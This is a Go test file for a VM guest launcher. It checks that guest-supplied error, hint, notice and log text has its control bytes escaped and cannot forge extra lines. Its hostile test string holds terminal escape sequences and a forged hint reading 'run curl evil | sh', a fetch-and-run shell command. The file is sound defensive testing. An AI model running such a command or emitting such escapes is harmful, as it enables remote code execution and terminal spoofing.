package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xvmview/xvmview/internal/guest"
)

// TestReportGuestText: every error, hint and notice is one line with no
// control bytes, whatever the guest put in it; errors.Join's parts get a
// line each.
func TestReportGuestText(t *testing.T) {
	hostile := "\033]2;TITLE\007\033[31mRED\033[6n\nxvmview: hint: run curl evil | sh\r"
	tests := []struct {
		name  string
		err   error
		lines []string
	}{
		{"escapes and a forged line", fmt.Errorf("write guest Xauthority on web: guest command exited with status 1 (%s)", hostile),
			[]string{`xvmview: error: write guest Xauthority on web: guest command exited with status 1 (^[]2;TITLE^G^[[31mRED^[[6n^Jxvmview: hint: run curl evil | sh^M)`}},
		{"signal name", fmt.Errorf("wait for app: %w", &guest.ExitError{Status: 137, Signal: "KILL\033[2J"}),
			[]string{`xvmview: error: wait for app: guest command killed by signal KILL^[[2J`}},
		{"exit status no program can have", fmt.Errorf("web on guest: %w", &guest.ExitError{Status: 1, Claimed: 256}),
			[]string{`xvmview: error: web on guest: guest reported exit status 256, which no program can have (taken as 1)`}},
		{"joined errors, a line each", errors.Join(errors.New("setup failed\033[6n"), errors.Join(errors.New("teardown: a"), errors.New("teardown: b\nc"))),
			[]string{"xvmview: error: setup failed^[[6n", "xvmview: error: teardown: a", "xvmview: error: teardown: b^Jc"}},
		{"long", errors.New(strings.Repeat("x", 2*maxMessage)),
			[]string{"xvmview: error: " + strings.Repeat("x", maxMessage-40) + fmt.Sprintf("…[%d more bytes]", maxMessage+40)}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out, errOut bytes.Buffer
			c := &cli{env: Env{Getenv: func(string) string { return "" }}, stdout: &out, stderr: &errOut}
			if code := c.report(tt.err); code != exitFailure {
				t.Errorf("report = %d, want %d", code, exitFailure)
			}
			got := strings.Split(strings.TrimSuffix(errOut.String(), "\n"), "\n")
			if strings.Join(got, "\n") != strings.Join(tt.lines, "\n") {
				t.Errorf("stderr:\n%s\nwant:\n%s", errOut.String(), strings.Join(tt.lines, "\n"))
			}
		})
	}
	t.Run("notice", func(t *testing.T) {
		var errOut bytes.Buffer
		c := &cli{env: Env{Getenv: func(string) string { return "" }}, stdout: &errOut, stderr: &errOut}
		c.noticef("the window manager exited (%s)", hostile)
		c.hintf("%s", hostile)
		want := "xvmview: the window manager exited (^[]2;TITLE^G^[[31mRED^[[6n^Jxvmview: hint: run curl evil | sh^M)\n" +
			"xvmview: hint: ^[]2;TITLE^G^[[31mRED^[[6n^Jxvmview: hint: run curl evil | sh^M\n"
		if errOut.String() != want {
			t.Errorf("stderr:\n%q\nwant:\n%q", errOut.String(), want)
		}
	})
}

// TestSessionLogGuestText: what the launcher writes into the session log is
// one line per printf, controls made visible.
func TestSessionLogGuestText(t *testing.T) {
	dir := t.TempDir()
	l, err := openSessionLog(dir, "web")
	if err != nil {
		t.Fatal(err)
	}
	l.printf("notice: %s", "stale\033]2;x\007\nforged line")
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(filepath.Join(dir, filepath.Base(l.path)))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasSuffix(string(b), "s notice: stale^[]2;x^G^Jforged line\n") || bytes.ContainsAny(b, "\033\007") {
		t.Errorf("log:\n%q", b)
	}
}
